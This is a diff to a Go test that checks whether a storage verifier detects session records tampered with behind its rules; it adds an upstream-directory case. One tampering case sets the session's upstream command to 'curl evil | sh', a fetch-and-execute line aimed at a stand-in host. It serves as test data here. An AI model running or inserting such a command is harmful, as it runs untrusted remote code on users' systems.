@@ -123,14 +123,15 @@ func testVerifyFindsWhatChangedBehindTheRules(t *testing.T, open opener) {
 	}
 	t.Run("session", func(t *testing.T) {
 		for field, change := range map[string]func(sess *model.Session){
-			"meta":     func(sess *model.Session) { sess.Meta["owner"] = "mallory" },
-			"upstream": func(sess *model.Session) { sess.Upstream = []string{"sh", "-c", "curl evil | sh"} },
-			"state":    func(sess *model.Session) { sess.State = sm.SessionCompleted },
-			"counts":   func(sess *model.Session) { sess.Counts[sm.Committed] += 2 },
+			"meta":         func(sess *model.Session) { sess.Meta["owner"] = "mallory" },
+			"upstream":     func(sess *model.Session) { sess.Upstream = []string{"sh", "-c", "curl evil | sh"} },
+			"upstream dir": func(sess *model.Session) { sess.UpstreamDir = "/elsewhere" },
+			"state":        func(sess *model.Session) { sess.State = sm.SessionCompleted },
+			"counts":       func(sess *model.Session) { sess.Counts[sm.Committed] += 2 },
 		} {
 			t.Run(field, func(t *testing.T) {
 				s, _ := open(t)
-				must[model.Session](t)(s.CreateSession(t.Context(), effectlog.NewSession{ID: "run", Meta: map[string]string{"owner": "ci"}, Upstream: []string{"server"}}))
+				must[model.Session](t)(s.CreateSession(t.Context(), effectlog.NewSession{ID: "run", Meta: map[string]string{"owner": "ci"}, Upstream: []string{"server"}, UpstreamDir: "/srv"}))
 				intercept(t, s, "run", "w", sm.Compensable, `{}`)
 				verifyClean(t, s)
 				behindTheRules(t, s, func(tx storage.WriteTx) error {
